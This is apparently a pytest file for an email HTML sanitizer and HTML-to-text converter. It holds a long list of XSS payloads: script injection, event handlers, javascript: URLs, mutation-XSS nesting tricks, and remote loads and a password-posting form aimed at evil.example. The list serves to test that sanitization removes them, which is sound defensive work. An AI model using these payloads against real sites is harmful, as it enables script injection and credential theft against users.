"""HTML as text, and HTML made harmless: hostile collections, and anything at all."""

import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from samspill.mail.html import CLASSES, safe, to_text

TEXTS = [
    ("<p>Hi <b>there</b>,</p><p>second</p>", "Hi there,\n\nsecond"),
    ("a<br>b<br><br>c", "a\nb\n\nc"),
    ('<a href="https://x.example/a?b=1&amp;c">shop</a>', "shop (https://x.example/a?b=1&c)"),
    ('<a href="https://x.example/">x.example</a>', "x.example"),
    ('<a href="mailto:a@b.example">a@b.example</a>', "a@b.example"),
    ("<ul><li>one<li>two<ol><li>x</li><li>y</li></ol></ul>", "* one\n* two\n  1. x\n  2. y"),
    ("<table><tr><td>A</td><td>B</td></tr><tr><td>1</td><td>2</td></tr></table>", "A\tB\n1\t2"),
    ("<blockquote><p>q</p></blockquote>mine", "> q\n\nmine"),
    ("<style>p{}</style><script>x</script><title>t</title>Hei", "Hei"),
    ('<div style="display:none;font-size:1px">preview<div>in</div></div>Hei', "Hei"),
    ('<span style="font-size:0px">x</span><span style="font-size:0.9em">y</span>', "y"),
    ("<p hidden>x</p>Hei", "Hei"),
    ("<head><meta charset=utf-8><p>Hei", "Hei"),
    ('<img alt="a > b" src=x>', "[a > b]"),
    ('<img alt="logo" width="1" height="1">Hei', "Hei"),
    ("<pre>  a\n   b</pre>", "a\n   b"),
    ("1 &lt; 2 &amp; 3&nbsp;&euro; &#x41; &bogus;", "1 < 2 & 3 € A &bogus;"),
    ("2 < 3 and 4 > 3", "2 < 3 and 4 > 3"),
    ("<!--[if mso]>Outlook<![endif]-->Hei", "Hei"),
    ("", ""),
]


@pytest.mark.parametrize(("markup", "text"), TEXTS)
def test_html_reads_as_text(markup: str, text: str) -> None:
    assert to_text(markup).strip() == text.strip()


# every kind of trick: what could run, load, cover the page, leave it, or come alive when parsed again
HOSTILE = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>", "<svg><animate onbegin=alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>", "<textarea><img src=x onerror=alert(1)></textarea>", "<title><img src=x onerror=alert(1)></title>",
    "<xmp><img src=x onerror=alert(1)></xmp>", "<plaintext><img src=x onerror=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)></object>", "<embed src=//evil.example>", "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css'</style>",
    "<p style='background:url(//evil.example/x)'>x</p>", "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>x</p>",
    "<p style=\"width:expression(alert(1))\">x</p>", "<p style='behavior:url(x.htc)'>x</p>", "<div style='-moz-binding:url(//evil.example)'>x</div>",
    "<a href=javascript:alert(1)>x</a>", "<a href=' jAvA\tscript:alert(1)'>x</a>", "<a href='java&#10;script:alert(1)'>x</a>", "<a href='&#x6A;avascript:alert(1)'>x</a>",
    "<a href='\u0001javascript:alert(1)'>x</a>", "<a href='vbscript:x'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href=//evil.example>x</a>",
    "<a href='/desk/sign-out/'>x</a>", "<a href='?delete=1'>x</a>", "<a href='https://x.example' target=_self ping=//evil.example onclick=alert(1) download>x</a>",
    "<img src=//evil.example/x>", "<img src='http://evil.example/x' srcset='//evil.example/y 2x' loading=eager>", "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='cid:a\" onerror=\"alert(1)'>", "<img alt='&quot; src=&quot;http://evil.example/'>", "<img src='https://evil.example/?&quot; onerror=&quot;alert(1)'>",
    "<picture><source srcset=//evil.example/x><img src=x></picture>", "<video src=//evil.example poster=//evil.example></video>", "<audio src=//evil.example autoplay>",
    "<table background=//evil.example/x><tr><td background=//evil.example/x>x", "<body background=//evil.example onload=alert(1)>", "<input type=image src=//evil.example>",
    "<form action=//evil.example><input name=password><button formaction=//evil.example>x</button></form>", "<button onclick=alert(1)>x</button>",
    "<p id=location name=document class='modal overlay'>x</p>", "<a name=getElementById id=cookie>x</a>", "<x onclick=alert(1)>x</x>", "<p is=evil-thing slot=x part=x>x</p>",
    "<details open ontoggle=alert(1)>x</details>", "<marquee onstart=alert(1)>x</marquee>", "<p data-hx-get=//evil.example hx-get=/desk/ hx-trigger=load>x</p>",
    "<p data-remote=//evil.example data-action=delete>x</p>", "<!--><script>alert(1)</script>-->", "<!-- --!><script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img/src=x/onerror=alert(1)>", "<p/onclick=alert(1)>x", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<div contenteditable onfocus=alert(1) autofocus tabindex=1 accesskey=x>x</div>", "<dialog open>x</dialog>", "<select><option>x<img src=x onerror=alert(1)></select>", "<portal src=//evil.example>",
    "<p style=\"font-weight:bold&quot; onclick=&quot;alert(1)\">x</p>", "<p style='mail-bold\" onclick=\"alert(1)'>x</p>", "<p align='center\" onclick=\"alert(1)'>x</p>",
]  # fmt: skip
_TAG = re.compile(r"<(/?)([a-z0-9]+)((?: [a-z-]+(?:=\"[^\"<>]*\")?)*)>")
_ATTRIBUTE = re.compile(r' ([a-z-]+)(?:="([^"]*)")?')
ALLOWED = {
    "href", "title", "alt", "src", "width", "height", "colspan", "rowspan", "scope", "start", "type", "reversed", "dir", "lang", "class", "target", "rel", "data-remote",
}  # fmt: skip
RUNS = {
    "script",
    "style",
    "svg",
    "math",
    "iframe",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "base",
    "meta",
    "link",
    "template",
    "textarea",
    "video",
    "audio",
    "frame",
    "dialog",
}


def _is_harmless(fragment: str) -> None:
    assert "<" not in _TAG.sub("", fragment), fragment
    for _, tag, attributes in _TAG.findall(fragment):
        assert tag not in RUNS, fragment
        for name, value in _ATTRIBUTE.findall(attributes):
            assert name in ALLOWED, fragment
            _is_harmless_value(name, value)


def _is_harmless_value(name: str, value: str) -> None:
    if name == "href":
        assert re.match(r"(https?://|mailto:|tel:)", value, re.I), value
    if name == "src":
        assert value == "/files/1" or re.match(r"data:image/(png|gif|jpe?g|webp);base64,", value), value
    if name == "class":
        assert set(value.split()) <= {*CLASSES, "mail-remote"}, value


@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_hostile_is_left(markup: str) -> None:
    for tried in (
        markup,
        f"<p>before{markup}after</p>",
        f"<table><tr><td>{markup}</table>",
        markup.replace("'", "&apos;"),
        markup.upper(),
    ):
        once = safe(tried, {"a": "/files/1"})
        _is_harmless(once)
        _is_harmless(safe(once, {}))


PIECES = st.sampled_from(
    [
        *HOSTILE,
        "<p>",
        "</p>",
        "<table>",
        "<svg>",
        "</svg>",
        "<math>",
        "<style>",
        "</style>",
        "<!--",
        "-->",
        "<b title='",
        "'>",
        '"',
        ">",
        "<",
    ]
)


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=20)), max_size=8))
def test_nothing_hostile_is_left_of_any_mixture(pieces: list[str]) -> None:
    _is_harmless(safe("".join(pieces), {"a": "/files/1"}))


def test_what_is_harmless_stays() -> None:
    markup = '<h2 style="text-align:center">A</h2><p style="font-weight:bold">B <a href="https://x.example/">x</a></p><table><tr><td colspan="2">c</td></tr></table>'
    shown = safe(markup, {})
    assert '<h2 class="mail-center">A</h2>' in shown
    assert '<p class="mail-bold">' in shown
    assert '<td colspan="2">c</td>' in shown
    assert 'href="https://x.example/"' in shown
    assert 'target="_blank"' in shown
    assert "noopener" in shown


def test_pictures_of_the_mail_come_from_us_and_others_only_on_request() -> None:
    shown = safe(
        '<img src="cid:logo@x" alt="L"><img src="https://t.example/a.png?b=1&amp;c" alt="R"><img src="cid:gone">',
        {"logo@x": "/files/1"},
    )
    assert '<img src="/files/1" alt="L">' in shown or '<img alt="L" src="/files/1">' in shown
    assert 'data-remote="https://t.example/a.png?b=1&amp;c"' in shown
    assert 'src="https' not in shown.replace("data-remote", "")
    assert shown.count("<img") == 2


def test_counting_pixels_and_hidden_previews_go() -> None:
    assert safe('<img src="https://t.example/p.gif" width="1" height="1">', {}) == ""
    assert safe('<div style="display:none">preview<div>in</div></div><p>Hei</p>', {}) == "<p>Hei</p>"


@pytest.mark.slow
@pytest.mark.parametrize(
    "piece",
    [
        "<div>",
        "<b>",
        "<ul><li>",
        "<table><tr><td>",
        "<font color=1>",
        "<a href='",
        "<!--",
        "<p style='display:none'>",
        "&#",
    ],
)
def test_endless_nesting_takes_no_time(piece: str) -> None:
    begun = time.process_time()
    _is_harmless(safe(piece * 60_000 + "x", {}))
    _is_harmless(safe(piece * 300 + "<p>x" * 20_000, {}))
    assert time.process_time() - begun < 8
